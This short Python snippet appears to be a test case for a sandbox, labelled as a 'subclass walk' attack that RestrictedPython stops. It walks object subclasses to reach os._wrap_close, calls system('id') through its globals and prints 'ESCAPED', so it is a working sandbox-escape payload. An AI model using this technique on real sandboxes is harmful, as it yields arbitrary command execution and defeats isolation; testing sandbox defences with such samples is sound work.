# attack: subclass walk
# stops: restrictedpython
# ().__class__.__bases__[0].__subclasses__() to reach os._wrap_close
for c in ().__class__.__bases__[0].__subclasses__():
    if c.__name__ == "_wrap_close":
        print(c.__init__.__globals__["system"]("id"), "ESCAPED")
